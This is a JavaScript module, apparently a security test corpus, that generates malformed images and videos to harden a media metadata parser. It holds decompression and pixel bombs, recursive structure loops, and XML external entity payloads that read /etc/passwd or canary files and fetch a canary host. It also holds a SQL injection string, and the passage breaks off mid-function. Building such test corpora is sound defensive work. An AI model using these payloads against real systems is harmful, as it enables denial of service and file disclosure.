// Files made by hand by people who mean harm. Each has the name that it is uploaded by; what it may reach for is a
// canary's. All small: what is large in them is a promise.
import { deflateSync, gzipSync } from 'node:zlib';
import { box, chunk, directory, exif, hugeBox, ihdr, join, latin, png, segment, tiff, u16, u16le, u32, u32le, u64, u8, utf8, withChunks, withSegments, xmpSegment } from './bytes.mjs';
import { adobeXmp, alias, animatedGif, aviWithSubtitles, element, heif, matroska, movie, pages, riff } from './containers.mjs';

const times = (count, bytes) => Buffer.alloc(count * bytes.length, bytes);
const megabytes = (count) => Buffer.alloc(count << 20);
const zeros = (bytes) => deflateSync(Buffer.alloc(bytes), { level: 9 });

// A JPEG that says that it has another size.
function framed(jpeg, [width, height]) {
  const copy = Buffer.from(jpeg);
  for (let at = 2; at < copy.length; at += 2 + copy.readUInt16BE(at + 2)) {
    if (copy[at + 1] >= 0xc0 && copy[at + 1] <= 0xc2) {
      copy.writeUInt16BE(height, at + 5);
      copy.writeUInt16BE(width, at + 7);
      return copy;
    }
  }
  throw new Error('no frame in this JPEG');
}

// Few bytes that promise many pixels, or keep the promise.
export function pixelBombs({ good }) {
  const huge = [65_535, 65_535];
  const sized = (file, type, [width, height], skip = 8) => {
    const copy = Buffer.from(file);
    const at = copy.indexOf(type) + skip;
    copy.writeUInt32BE(width, at);
    copy.writeUInt32BE(height, at + 4);
    return copy;
  };
  const gif = Buffer.from(good('photo.gif'));
  gif.writeUInt16LE(65_535, 6);
  gif.writeUInt16LE(65_535, 8);
  const bmp = Buffer.from(good('photo.bmp'));
  bmp.writeInt32LE(0x7fffffff, 18);
  bmp.writeInt32LE(-0x7fffffff, 22);
  const strips = (width, height, compression, data) =>
    join(
      tiff(directory([[256, 4, 1, width], [257, 4, 1, height], [258, 3, 1, 8], [259, 3, 1, compression], [262, 3, 1, 1], [273, 4, 1, 8 + 2 + 9 * 12 + 4], [277, 3, 1, 1], [278, 4, 1, height], [279, 4, 1, data.length]])),
      data,
    );
  const film = (width, height, sample) => movie({ codec: 'png ', width, height, sample });
  const real = png(ihdr(30_000, 30_000, 1, 0), chunk('IDAT', zeros(30_000 * 3_751)));
  return {
    'header.png': png(ihdr(...huge), chunk('IDAT', zeros(100))),
    'most.png': png(ihdr(0x7fffffff, 0x7fffffff), chunk('IDAT', zeros(100))),
    'real.png': real,
    'interlaced.png': png(chunk('IHDR', join(u32(16_000), u32(16_000), u8(16, 6, 0, 0, 1))), chunk('IDAT', zeros(1 << 24))),
    'thin.png': png(ihdr(1, 100_000_000, 1, 0), chunk('IDAT', zeros(200_000_000))),
    'wide.png': png(ihdr(50_000_000, 2, 1, 0), chunk('IDAT', zeros(12_500_002))),
    'header.jpg': framed(good('photo.jpg'), huge),
    'progressive.jpg': framed(good('progressive.jpg'), huge),
    'cmyk.jpg': framed(good('cmyk.jpg'), [65_500, 65_500]),
    'wide.jpg': framed(good('photo.jpg'), [65_500, 8]),
    'high.jpg': framed(good('photo.jpg'), [8, 65_500]),
    'header.gif': gif,
    'header.bmp': bmp,
    'header.heic': sized(good('photo.heic'), 'ispe', [0x7fffffff, 0x7fffffff]),
    'plausible.heic': sized(good('photo.heic'), 'ispe', [16_000, 16_000]),
    'header.avif': sized(good('photo.avif'), 'ispe', [65_535, 65_535]),
    'header.jxl': join(u8(0xff, 0x0a, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff), Buffer.alloc(64, 0x55)),
    'header.webp': riff('WEBP', ['VP8X', join(u8(0, 0, 0, 0), u8(0xff, 0xff, 0xff, 0xff, 0xff, 0xff))], ['VP8L', join(u8(0x2f, 0xff, 0xff, 0xff, 0x0f), Buffer.alloc(32))]),
    'header.tiff': strips(0x7fffffff, 0x7fffffff, 1, Buffer.alloc(64)),
    'deflated.tiff': strips(40_000, 40_000, 8, zeros(1 << 27)),
    'deflated.dng': strips(40_000, 40_000, 8, zeros(1 << 27)),
    'header.jp2': sized(good('photo.jp2'), 'ihdr', [0x7fffffff, 0x7fffffff], 4),
    'size.svg': svg('<rect width="9e9" height="9e9" fill="red"/>', 'width="1000000" height="1000000"'),
    'infinite.svg': svg('<rect width="9" height="9"/>', 'width="1e308" height="1e308" viewBox="0 0 1e-300 1e-300"'),
    'frame.mov': film(30_000, 30_000, real),
    'header.mov': film(...huge, png(ihdr(...huge), chunk('IDAT', zeros(100)))),
    'small-outside.mov': film(64, 48, real),
    'frame.mkv': matroska({ codec: 'V_MJPEG', width: 65_500, height: 65_500, frames: [framed(good('photo.jpg'), [65_500, 65_500])] }),
  };
}

const svg = (content, attributes = 'width="400" height="300"', before = '') =>
  utf8(`<?xml version="1.0"?>${before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${content}</svg>`);

// A progressive JPEG is gone through once for each of its scans, however little stands in one.
function manyScans(jpeg, size, count) {
  const start = jpeg.indexOf(u8(0xff, 0xda));
  const scan = jpeg.subarray(start, start + 2 + jpeg.readUInt16BE(start + 2));
  return join(framed(jpeg.subarray(0, start), size), Array(count).fill(join(scan, u8(0))), u8(0xff, 0xd9));
}

// Few bytes that are many frames, pages, samples, or years.
export function frameBombs({ good }) {
  const years = (count, delta) => ({ stts: join(u32(0), u32(1), u32(count), u32(delta)) });
  const sample = good('photo.jpg');
  return {
    'frames.gif': animatedGif(1, 1, 200_000),
    'canvas.gif': animatedGif(20_000, 15_000, 2_000),
    'pages.tiff': pages(60_000),
    'frames.webp': riff('WEBP', ['VP8X', join(u8(2, 0, 0, 0), u8(0xff, 0x0f, 0, 0xff, 0x0f, 0))], ['ANIM', Buffer.alloc(6)], ...Array.from({ length: 20_000 }, () => ['ANMF', join(Buffer.alloc(12), u8(1, 0, 0, 0), 'VP8L', u32le(8), u8(0x2f, 0, 0, 0, 0, 0x88, 0x88, 8))])),
    'frames.png': withChunks(good('photo.png'), chunk('acTL', join(u32(0x7fffffff), u32(0)))),
    'samples.mp4': movie({ codec: 'jpeg', width: 64, height: 48, sample, ...years(0x7fffffff, 1) }),
    'long.mp4': movie({ codec: 'jpeg', width: 64, height: 48, sample, duration: 0xffffffff, ...years(1, 0xffffffff) }),
    'rate.mp4': movie({ codec: 'jpeg', width: 64, height: 48, sample, timescale: 0xffffffff, duration: 1 }),
    'sizes.mp4': movie({ codec: 'jpeg', width: 64, height: 48, sample, stsz: join(u32(0), u32(1), u32(0x0fffffff)) }),
    'tracks.mp4': movie({ codec: 'jpeg', width: 64, height: 48, sample, tracks: 2_000 }),
    'blocks.mkv': matroska({ codec: 'V_MJPEG', width: 64, height: 48, frames: Array.from({ length: 100_000 }, () => u8(0)) }),
    'scans.jpg': manyScans(good('progressive.jpg'), [9_000, 9_000], 3_000),
    'empty.mpg': Buffer.concat(Array.from({ length: 50_000 }, () => join(u8(0, 0, 1, 0xba, 0x44, 0, 4, 0, 4, 1, 0, 3, 0xff, 0xf8)))),
    'packets.mts': Buffer.concat(Array.from({ length: 20_000 }, (_, i) => join(u8(0x47, 0x40, i & 0xff, 0x10), Buffer.alloc(184, 0xff)))),
  };
}

// What leads back to itself, or ever deeper.
export function loops({ good }) {
  const jpeg = good('photo.jpg');
  const make = (...directories) => withSegments(jpeg, exif(tiff(...directories)));
  const nested = (type, depth, inner = Buffer.alloc(0)) => {
    let content = inner;
    for (let i = 0; i < depth; i++) content = box(type, content);
    return content;
  };
  const grid = join(u8(0, 0, 1, 1), u16(128), u16(128));
  return {
    'next.jpg': make(directory([[0x0112, 3, 1, 1]], 8)),
    'exif.jpg': make(directory([[0x8769, 4, 1, 8]])),
    'gps.jpg': make(directory([[0x8825, 4, 1, 8], [0x8769, 4, 1, 8], [0xa005, 4, 1, 8]], 8)),
    'subifds.jpg': make(directory([[0x014a, 4, 1, 8], [0x014a, 4, 1, 8], [0x014a, 4, 1, 8]], 8)),
    'many-subifds.jpg': make(directory(Array.from({ length: 4_000 }, () => [0x8769, 4, 1, 8]), 8)),
    'makernote.jpg': make(directory([[0x8769, 4, 1, 26]]), directory([[0x927c, 7, 200, 0]], 8)),
    'pair.jpg': make(directory([[0x0112, 3, 1, 1]], 26), directory([[0x0112, 3, 1, 1]], 8)),
    'thumbnail.jpg': make(directory([[0x0112, 3, 1, 1]], 26), directory([[0x0201, 4, 1, 0], [0x0202, 4, 1, 0x7fffffff]], 8)),
    'next.tiff': tiff(directory([[256, 3, 1, 4], [257, 3, 1, 4]], 8)),
    'next.dng': tiff(directory([[256, 3, 1, 4], [257, 3, 1, 4], [0x014a, 4, 1, 8], [0xc612, 1, 4, 1]], 8)),
    'pair.nef': tiff(directory([[256, 3, 1, 4], [0x014a, 4, 1, 38]], 38), directory([[256, 3, 1, 4], [0x014a, 4, 1, 8]], 8)),
    'subifds.cr2': join('II*\0', u32le(16), 'CR\x02\0', u32le(16), directory([[0x8769, 4, 1, 16], [0x014a, 4, 1, 16]], 16)),
    'previews.dng': tiff(directory([[0x014a, 4, 0x00ffffff, 8], [0x0111, 4, 1, 8], [0x0117, 4, 1, 0x7fffffff], [0x0201, 4, 1, 8], [0x0202, 4, 1, 0x7fffffff]], 8)),
    'grid-of-itself.heic': heif({ items: [['grid', grid]], references: [['dimg', 1, [1, 1, 1, 1]]] }),
    'two-of-each-other.heic': heif({ items: [['iden', Buffer.alloc(0)], ['iden', Buffer.alloc(0)]], references: [['dimg', 1, [2]], ['dimg', 2, [1]]] }),
    'overlay-of-itself.heic': heif({ items: [['iovl', Buffer.alloc(40)]], references: [['dimg', 1, [1, 1]]] }),
    'thumbnail-of-itself.heic': heif({ items: [['hvc1', Buffer.alloc(8)]], references: [['thmb', 1, [1]], ['auxl', 1, [1]], ['cdsc', 1, [1]]] }),
    'grid-of-grids.heic': heif({ items: Array.from({ length: 60 }, () => ['grid', join(u8(0, 0, 15, 15), u16(4096), u16(4096))]), references: Array.from({ length: 59 }, (_, i) => ['dimg', i + 1, Array(256).fill(i + 2)]) }),
    'tiles-of-tiles.heic': tilesOfTiles(good('photo.heic'), 12),
    'boxes.mp4': join(box('ftyp', 'isom\0\0\0\0isom'), nested('moov', 20_000)),
    'boxes.heic': join(box('ftyp', 'heic\0\0\0\0mif1heic'), nested('meta', 20_000)),
    'tracks.mov': join(box('ftyp', 'qt  \0\0\0\0qt  '), box('moov', nested('trak', 20_000))),
    'itself.mkv': join(matroska({ codec: 'V_MJPEG', width: 64, height: 48, frames: [] }), element(0x114d9b74, element(0x4dbb, join(element(0x53ab, u32(0x114d9b74)), element(0x53ac, u32(0)))))),
    'groups.svg': svg('<g>'.repeat(100_000) + '</g>'.repeat(100_000)),
    'use.svg': svg('<g id="a"><use href="#a"/><use xlink:href="#a"/></g>'),
    'uses.svg': svg(`<defs><rect id="x0" width="9" height="9"/>${Array.from({ length: 30 }, (_, i) => `<g id="x${i + 1}"><use xlink:href="#x${i}"/><use xlink:href="#x${i}"/><use xlink:href="#x${i}"/></g>`).join('')}</defs><use xlink:href="#x30"/>`),
    'pattern.svg': svg('<pattern id="p" width="1" height="1"><rect width="9" height="9" fill="url(#p)"/></pattern><rect width="400" height="300" fill="url(#p)"/>'),
    'mask.svg': svg('<mask id="m"><rect width="9" height="9" mask="url(#m)"/></mask><rect width="400" height="300" mask="url(#m)"/>'),
    'filters.svg': svg(`<filter id="f" x="-10" y="-10" width="99" height="99">${'<feGaussianBlur stdDeviation="5000"/><feTurbulence numOctaves="99999" baseFrequency="9"/><feMorphology operator="dilate" radius="9999"/>'.repeat(50)}</filter><rect width="4000" height="3000" filter="url(#f)"/>`, 'width="4000" height="3000"'),
    'path.svg': svg(`<path d="M0 0${'l1 1h-1v-1'.repeat(300_000)}" stroke="red" stroke-dasharray="0.0001" stroke-width="3"/>`),
  };
}

// Grids of grids, at the end of which is a picture that can be decoded: 256 times, and 256 times, …
function tilesOfTiles(photo, levels) {
  const boxAt = (type) => photo.subarray(photo.indexOf(type) - 4, photo.indexOf(type) - 4 + photo.readUInt32BE(photo.indexOf(type) - 4));
  const grid = join(u8(0, 0, 15, 15), u16(4096), u16(4096));
  const items = [...Array.from({ length: levels }, () => ['grid', grid]), ['hvc1', boxAt('mdat').subarray(8)]];
  const references = Array.from({ length: levels }, (_, i) => ['dimg', i + 1, Array(256).fill(i + 2)]);
  return heif({ items, references, codec: boxAt('hvcC') });
}

// XML that grows, or fetches. Within pictures, films, drawings and beside them.
export function entities({ good, canary }) {
  const grow = (levels) =>
    `<!DOCTYPE x [<!ENTITY e0 "${'ha'.repeat(50)}">${Array.from({ length: levels }, (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`).join('')}]>`;
  const quadratic = `<!DOCTYPE x [<!ENTITY e "${'a'.repeat(100_000)}">]>`;
  const types = {
    'laughs': [grow(9), '&e9;'],
    'quadratic': [quadratic, '&e;'.repeat(20_000)],
    'recursive': ['<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', '&a;'],
    'file': [`<!DOCTYPE x [<!ENTITY e SYSTEM "file://${canary['secret.txt']}">]>`, '&e;'],
    'passwd': ['<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', '&e;'],
    'http': [`<!DOCTYPE x [<!ENTITY e SYSTEM "${canary.http}/entity">]>`, '&e;'],
    'parameter': [`<!DOCTYPE x [<!ENTITY % p SYSTEM "file://${canary['secret.dtd']}">%p;]>`, '&told;'],
    'parameter-http': [`<!DOCTYPE x [<!ENTITY % p SYSTEM "${canary.http}/parameter">%p;]>`, 'x'],
    'dtd': [`<!DOCTYPE x SYSTEM "file://${canary['secret.dtd']}">`, '&told;'],
    'dtd-http': [`<!DOCTYPE x SYSTEM "${canary.http}/dtd">`, 'x'],
    'include': ['', `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://${canary['secret.txt']}" parse="text"/>`],
    'stylesheet': [`<?xml-stylesheet type="text/xsl" href="${canary.http}/sheet"?>`, 'x'],
    'deep': ['', '<a>'.repeat(50_000) + '</a>'.repeat(50_000)],
  };
  const all = {};
  for (const [name, [before, content]] of Object.entries(types)) {
    const packet = adobeXmp(content, before);
    all[`${name}.svg`] = svg(`<text x="9" y="40">${content}</text>`, 'width="400" height="300"', before);
    // A segment of JPEG holds 64 KB.
    all[`${name}-inside.jpg`] = packet.length < 65_000 ? withSegments(good('photo.jpg'), xmpSegment(packet)) : extended(good('photo.jpg'), packet);
    all[`${name}-inside.png`] = withChunks(good('photo.png'), chunk('iTXt', join('XML:com.adobe.xmp\0\0\0\0\0', utf8(packet))));
    all[`${name}-deflated.png`] = withChunks(good('photo.png'), chunk('iTXt', join('XML:com.adobe.xmp\0\x01\0\0\0', deflateSync(utf8(packet)))));
    all[`${name}-inside.mp4`] = join(good('film.mp4'), box('uuid', join(u8(0xbe, 0x7a, 0xcf, 0xcb, 0x97, 0xa9, 0x42, 0xe8, 0x9c, 0x71, 0x99, 0x94, 0x91, 0xe3, 0xaf, 0xac), utf8(packet))));
    all[`${name}-inside.webp`] = riff('WEBP', ['VP8X', join(u8(4, 0, 0, 0), u8(63, 0, 0, 47, 0, 0))], ['VP8L', good('photo.webp').subarray(20)], ['XMP ', utf8(packet)]);
    all[`${name}-inside.tiff`] = join(tiff(directory([[256, 3, 1, 4], [257, 3, 1, 4], [700, 1, packet.length, 50]])), utf8(packet));
    all[`${name}-beside.jpg`] = { bytes: good('photo.jpg'), sidecar: utf8(packet) };
  }
  const described = (content, attributes = '') => adobeXmp('x', '', attributes).replace('</rdf:Description>', `${content}</rdf:Description>`);
  const many = (count, part) => Array.from({ length: count }, (_, i) => part(i)).join('');
  const crowds = {
    'items': described(`<dc:subject><rdf:Bag>${'<rdf:li/>'.repeat(150_000)}</rdf:Bag></dc:subject>`),
    'elements': described(many(100_000, (i) => `<dc:a${i}/>`)),
    'attributes': described('', many(100_000, (i) => `dc:a${i}="" `)),
    'names': described(many(30_000, (i) => `<n${i}:a xmlns:n${i}="http://n/${i}"/>`)),
    'stolen-names': described('<lr:hierarchicalSubject xmlns:lr="http://not/"/><digiKam:TagsList xmlns:digiKam="http://not/"/><dc:title xmlns:dc="http://not/"/>'),
    'levels': described('<dc:a rdf:parseType="Resource">'.repeat(20_000) + '</dc:a>'.repeat(20_000)),
    'huge': described(`<dc:source>${'a'.repeat(100 << 20)}</dc:source>`),
  };
  for (const [name, packet] of Object.entries(crowds)) {
    all[`${name}-beside.jpg`] = { bytes: good('photo.jpg'), sidecar: utf8(packet) };
    if (packet.length < 16 << 20) {
      all[`${name}-inside.png`] = withChunks(good('photo.png'), chunk('iTXt', join('XML:com.adobe.xmp\0\x01\0\0\0', deflateSync(utf8(packet)))));
      all[`${name}-inside.webp`] = riff('WEBP', ['VP8X', join(u8(4, 0, 0, 0), u8(63, 0, 0, 47, 0, 0))], ['VP8L', good('photo.webp').subarray(20)], ['XMP ', utf8(packet)]);
      all[`${name}-extended.jpg`] = extended(good('photo.jpg'), packet);
    }
  }
  for (const encoding of ['utf-16le', 'utf-16be']) {
    const packet = Buffer.from('\ufeff' + adobeXmp('&e;', types.file[0]), 'utf16le');
    all[`${encoding}-beside.jpg`] = { bytes: good('photo.jpg'), sidecar: encoding === 'utf-16le' ? packet : packet.swap16() };
  }
  return all;
}

// Extended XMP: one document over many segments.
function extended(jpeg, packet, length = packet.length) {
  const id = 'A'.repeat(32);
  const bytes = utf8(packet);
  const parts = [];
  for (let at = 0; at < bytes.length; at += 60_000) {
    parts.push(segment(0xe1, join('http://ns.adobe.com/xmp/extension/\0', id, u32(length), u32(at), bytes.subarray(at, at + 60_000))));
  }
  return withSegments(jpeg, xmpSegment(adobeXmp('', '', `xmpNote:HasExtendedXMP="${id}"`)), ...parts);
}

// Exif of so many tags, each of which claims the same bytes.
function shared(tags, size) {
  const made = tiff(directory(Array.from({ length: tags }, (_, i) => [i + 1, 7, size, 0])));
  return join(made, Buffer.alloc(Math.max(0, size - made.length)));
}

// Photos that say that they hold films, which exiftool and phones find by what their ends and their XMP say.
export function motionPhotos({ good, canary }) {
  const photo = good('photo.jpg');
  const film = good('film.mp4');
  const all = {};
  const add = (name, bytes) => (all[name] = { bytes: withSegments(bytes, segment(0xfe, utf8(name))), isExact: true });
  // Samsung's: blocks, a directory that counts them from its own beginning backwards, its length.
  const trailer = (data, { count = 1, offset, size, length } = {}) => {
    const name = latin('MotionPhoto_Data');
    const block = join(u16le(0), u16le(0x0a30), u32le(name.length), name, data);
    const list = join('SEFH', u32le(107), u32le(count), u16le(0), u16le(0x0a30), u32le(offset ?? block.length), u32le(size ?? block.length));
    return join(block, list, u32le(length ?? list.length), 'SEFT');
  };
  const container = (items) =>
    adobeXmp('x', '', 'xmlns:Container="http://ns.google.com/photos/1.0/container/" xmlns:Item="http://ns.google.com/photos/1.0/container/item/"').replace('</rdf:Description>',
      `<Container:Directory><rdf:Seq>${items.map(([semantic, length, padding = 0]) => `<rdf:li rdf:parseType="Resource"><Container:Item Item:Mime="video/mp4" Item:Semantic="${semantic}" Item:Length="${length}" Item:Padding="${padding}"/></rdf:li>`).join('')}</rdf:Seq></Container:Directory></rdf:Description>`);
  const google = (xmp) => join(withSegments(photo, xmpSegment(xmp)), film);
  const micro = (offset) => google(adobeXmp('x', '', `xmlns:GCamera="http://ns.google.com/photos/1.0/camera/" GCamera:MicroVideo="1" GCamera:MicroVideoOffset="${offset}"`));

  add('samsung.jpg', join(photo, trailer(film)));
  add('samsung-count.jpg', join(photo, trailer(film, { count: 0xffffffff })));
  add('samsung-length.jpg', join(photo, trailer(film, { length: 0xffffffff })));
  add('samsung-before.jpg', join(photo, trailer(film, { offset: 0xffffffff })));
  add('samsung-size.jpg', join(photo, trailer(film, { size: 0x7fffffff })));
  add('samsung-small.jpg', join(photo, trailer(film, { size: 1 })));
  add('samsung-itself.jpg', join(photo, trailer(join('\0\0\0\x10ftyp', photo))));
  add('samsung-twice.jpg', join(photo, trailer(join(film, trailer(film)))));
  for (const offset of [film.length, 0, 1, -1, film.length + 100, 999999999999999, '9'.repeat(400), `${film.length}' or 1=1`]) add(`google-${String(offset).slice(0, 20)}.jpg`, micro(offset));
  add('google-list.jpg', google(container([['Primary', 0], ['MotionPhoto', film.length]])));
  add('google-lies.jpg', google(container([['Primary', 0], ['MotionPhoto', 999999999999999, 999999999999999]])));
  add('google-many.jpg', google(container([...Array.from({ length: 300 }, () => ['GainMap', 999999999999999]), ['MotionPhoto', film.length]])));
  add('playlist-within.jpg', join(photo, trailer(join(box('ftyp', 'isom\0\0\0\0isom'), `\n#EXTM3U\n#EXTINF:9,\nfile://${canary['secret.ts']}\n#EXT-X-ENDLIST\n`))));
  add('alias-within.jpg', join(photo, trailer(movie({ codec: 'jpeg', width: 128, height: 128, sample: photo, dref: alias(canary['secret.jpg']) }))));
  add('bomb-within.jpg', join(photo, trailer(movie({ codec: 'png ', width: 30_000, height: 30_000, sample: png(ihdr(30_000, 30_000, 1, 0), chunk('IDAT', zeros(30_000 * 3_751))) }))));
  const boxed = (size) => join(good('photo.heic'), u32(size), 'mpvd', film);
  for (const size of [film.length + 8, 0, 1, 7, 0x7fffffff, 0xffffffff]) all[`box-${size}.heic`] = { bytes: boxed(size), isExact: true };
  return all;
}

// Lengths and counts that are lies.
export function giantAtoms({ good }) {
  const jpeg = good('photo.jpg');
  const film = (parts) => movie({ codec: 'jpeg', width: 64, height: 48, sample: jpeg, ...parts });
  const all32 = 0xffffffff;
  const ftyp = box('ftyp', 'isom\0\0\0\0isom');
  const tag = (id, type, count, value = 8) => withSegments(jpeg, exif(tiff(directory([[0x8769, 4, 1, 26]]), directory([[id, type, count, value]]))));
  return {
    'size.mp4': join(ftyp, box('moov', latin('short'), all32)),
    'huge-size.mp4': join(ftyp, hugeBox('moov', latin('short'), 0x7fffffffffffffffn)),
    'negative-size.mp4': join(ftyp, hugeBox('mdat', latin('short'), 0xffffffffffffffffn), good('film.mp4')),
    'to-the-end.mp4': join(ftyp, box('moov', latin('short'), 0)),
    'too-small.mp4': join(ftyp, box('moov', latin('short'), 4), good('film.mp4')),
    'brands.mp4': box('ftyp', 'isom\0\0\0\0isom', 0x7fffffff),
    'stts.mp4': film({ stts: join(u32(0), u32(all32), u32(1), u32(1)) }),
    'stsz.mp4': film({ stsz: join(u32(0), u32(0), u32(all32)) }),
    'stsc.mp4': film({ stsc: join(u32(0), u32(all32), u32(1), u32(all32), u32(1)) }),
    'stco.mp4': film({ stco: join(u32(0), u32(all32), u32(8)) }),
    'sample.mp4': film({ stsz: join(u32(0), u32(0x7ffffff0), u32(1)) }),
    'keys.mov': join(box('ftyp', 'qt  \0\0\0\0qt  '), box('moov', box('meta', join(box('hdlr', join(u64(0), 'mdta', Buffer.alloc(12))), box('keys', join(u32(0), u32(all32), u32(12), 'mdtakey1')), box('ilst', Buffer.alloc(8)))))),
    'udta.mp4': join(good('film.mp4'), box('moov', box('udta', box('©nam', join(u16(0xffff), u16(0), 'x')))), box('free', Buffer.alloc(0), 0x7fffffff)),
    'meta.heic': join(box('ftyp', 'heic\0\0\0\0mif1heic'), box('meta', latin('\0\0\0\0'), 0x7fffffff)),
    'items.heic': heif({ items: [['hvc1', Buffer.alloc(8)]], iinf: join(u32(0x01000000), u32(all32)) }),
    'locations.heic': heif({ items: [['hvc1', Buffer.alloc(8)]], iloc: join(u32(0x02000000), u16(0x4444), u32(all32), Buffer.alloc(32, 0xff)) }),
    'extent.heic': heif({ items: [['hvc1', Buffer.alloc(8)]], iloc: join(u32(0), u16(0x4400), u16(1), u16(1), u16(0), u16(1), u32(0), u32(all32)) }),
    'exif.heic': heif({ items: [['hvc1', Buffer.alloc(8)], ['Exif', join(u32(0x7fffffff), 'II*\0')]], references: [['cdsc', 2, [1]]] }),
    'chunk.png': join(good('photo.png').subarray(0, 33), u32(0x7fffffff), 'iCCP', Buffer.alloc(64)),
    'negative.png': join(good('photo.png').subarray(0, 33), u32(all32), 'eXIf', Buffer.alloc(64)),
    'exif.png': withChunks(good('photo.png'), chunk('eXIf', tiff(directory([[0x010e, 2, all32, 8]])))),
    'text.jpg': tag(0x9286, 7, all32),
    'longs.jpg': tag(0x9286, 4, 0x40000000),
    'rationals.jpg': tag(0x829a, 5, 0x20000001),
    'makernote.jpg': tag(0x927c, 7, 0x7fffffff, 0xfffffff0),
    'offset.jpg': withSegments(jpeg, exif(join('II*\0', u32le(all32)))),
    'shared.jpg': withSegments(jpeg, exif(shared(5_000, 60_000))),
    'shared-many.jpg': withSegments(jpeg, times(40, exif(shared(5_000, 60_000)))),
    'shared.png': withChunks(good('photo.png'), chunk('eXIf', shared(60_000, 3_000_000))),
    'shared.webp': riff('WEBP', ['VP8X', join(u8(8, 0, 0, 0), u8(63, 0, 0, 47, 0, 0))], ['VP8L', good('photo.webp').subarray(20)], ['EXIF', shared(60_000, 3_000_000)]),
    'shared.heic': heif({ items: [['hvc1', Buffer.alloc(8)], ['Exif', join(u32(0), shared(60_000, 3_000_000))]], references: [['cdsc', 2, [1]]] }),
    'shared.tiff': shared(60_000, 3_000_000),
    'shared.nef': shared(60_000, 3_000_000),
    'profiles.jpg': withSegments(jpeg, times(300_000, segment(0xe2, latin('ICC_PROFILE\0\x01\x01x')))),
    'frames.jpg': withSegments(jpeg, times(500_000, segment(0xc1, join(u8(8), u16(48), u16(64), u8(1, 1, 0x11, 0))))),
    'comments.jpg': withSegments(jpeg, times(1_000_000, segment(0xfe, latin('x')))),
    'documents.jpg': withSegments(jpeg, times(300, xmpSegment(adobeXmp('<rdf:li/>'.repeat(6_000))))),
    'empty-chunks.png': withChunks(good('photo.png'), times(1_000_000, chunk('teSt', Buffer.alloc(0)))),
    'entries.jpg': withSegments(jpeg, exif(join('II*\0', u32le(8), u16le(0xffff), Buffer.alloc(600, 0x11)))),
    'segment.jpg': join(jpeg.subarray(0, 2), u8(0xff, 0xe1), u16(0), jpeg.subarray(2)),
    'segments.jpg': withSegments(jpeg, ...Array.from({ length: 400 }, () => segment(0xe2, join('ICC_PROFILE\0', u8(1, 255), Buffer.alloc(65_000))))),
    'irb.jpg': withSegments(jpeg, segment(0xed, join('Photoshop 3.0\0', '8BIM', u16(0x0404), u8(0, 0), u32(0x7fffffff), 'x'))),
    'extended-xmp.jpg': extended(jpeg, adobeXmp('x'), 0x7fffffff),
    'extended-xmp-100-mb.jpg': extended(jpeg, adobeXmp('x'), 100 << 20),
    'extended-xmp-200-mb.jpg': extended(jpeg, adobeXmp('x'), 200 << 20),
    'icc.jpg': withSegments(jpeg, segment(0xe2, join('ICC_PROFILE\0', u8(1, 1), u32(all32), Buffer.alloc(124), u32(all32), Buffer.alloc(64, 0xff)))),
    'strips.tiff': tiff(directory([[256, 4, 1, 100], [257, 4, 1, 100], [273, 4, all32, 8], [279, 4, all32, 8]])),
    'directory.tiff': join('II*\0', u32le(0xfffffff0)),
    'big.tiff': join('II+\0', u16le(8), u16le(0), Buffer.alloc(8, 0xff)),
    'chunk.webp': join('RIFF', u32le(all32), 'WEBP', 'EXIF', u32le(all32), good('photo.webp').subarray(12)),
    'riff.avi': join('RIFF', u32le(all32), 'AVI ', 'LIST', u32le(all32), 'hdrl', 'avih', u32le(all32), Buffer.alloc(64)),
    'index.avi': join(good('film.avi'), 'idx1', u32le(0x7fffffff), Buffer.alloc(64, 0xff)),
    'element.mkv': join(good('film.mkv').subarray(0, 64), u8(0x1c, 0x53, 0xbb, 0x6b, 1, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xfe)),
    'attachment.mkv': matroska({ codec: 'V_MJPEG', width: 64, height: 48, frames: [jpeg], more: join(u8(0x19, 0x41, 0xa4, 0x69, 1, 0x7f, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff), Buffer.alloc(32)) }),
    'private.mkv': matroska({ codec: 'V_MPEG4/ISO/AVC', width: 64, height: 48, frames: [jpeg], privately: join(u8(1, 0xff, 0xff, 0xff, 0xff, 0xff), Buffer.alloc(32, 0xff)) }),
    'object.wmv': join(u8(0x30, 0x26, 0xb2, 0x75, 0x8e, 0x66, 0xcf, 0x11, 0xa6, 0xd9, 0x00, 0xaa, 0x00, 0x62, 0xce, 0x6c), Buffer.alloc(8, 0xff), u32le(all32), u8(1, 2), Buffer.alloc(64, 0xff)),
    'tag.flv': join('FLV\x01\x05', u32(9), u32(0), u8(18, 0xff, 0xff, 0xff), Buffer.alloc(64, 2)),
    'klv.mxf': join(good('film.mxf').subarray(0, 16), u8(0x88), u64(0x7fffffffffffffffn), Buffer.alloc(64)),
    'box.jxl': join('\0\0\0\x0cJXL \r\n\x87\n', box('ftyp', 'jxl \0\0\0\0jxl '), box('jxlc', u8(0xff, 0x0a), all32)),
    'box.jp2': join(good('photo.jp2').subarray(0, 32), u32(all32), 'jp2c', Buffer.alloc(64)),
    'colours.bmp': join('BM', u32le(all32), u32le(0), u32le(54), u32le(40), u32le(64), u32le(64), u16le(1), u16le(8), u32le(1), u32le(all32), u32le(0), u32le(0), u32le(all32), u32le(0), Buffer.alloc(64)),
  };
}

// What is small only for as long as nobody unpacks it.
export function compressionBombs({ good }) {
  const bomb = zeros(1 << 27); // 128 MB, in 130 KB
  const text = chunk('zTXt', join('Comment\0\0', bomb));
  const compressed = element(0x6d80, element(0x6240, join(element(0x5031, u8(0)), element(0x5032, u8(1)), element(0x5033, u8(0)), element(0x5034, element(0x4254, u8(0))))));
  return {
    'text.png': withChunks(good('photo.png'), text),
    'texts.png': withChunks(good('photo.png'), ...Array(16).fill(text)),
    'profile.png': withChunks(good('photo.png'), chunk('iCCP', join('icc\0\0', bomb))),
    'xmp.png': withChunks(good('photo.png'), chunk('iTXt', join('XML:com.adobe.xmp\0\x01\0\0\0', deflateSync(utf8(adobeXmp(' '.repeat(100 << 20))))))),
